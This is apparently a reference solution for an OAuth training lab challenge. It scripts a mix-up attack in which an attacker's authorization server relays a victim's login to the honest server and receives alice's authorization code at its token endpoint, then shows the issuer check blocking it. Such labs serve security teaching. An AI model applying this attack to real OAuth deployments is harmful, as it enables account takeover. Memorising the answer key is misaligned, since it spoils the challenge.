# A reference solution for challenge 18.iss_unchecked: your server sends alice on to the honest one, with the
# client's own request; the honest server answers the client, which redeems at the server its session remembers.
honest = f"{lab.flow.as_.url}/authorize"
lab.flow.attacker.authorize_to = lambda params: f"{honest}?{urlencode(params)}"
lab.flow.victim.visit(f"{lab.flow.client.url}/login?as=other")
print([r.path for r in lab.flow.attacker.received][-2:])      # /as/authorize, then /as/token with alice's code
lab.flow.disable("iss_unchecked")
print(lab.flow.victim.visit(f"{lab.flow.client.url}/login?as=other")[-1])   # iss names the honest server: 400
challenge.check()
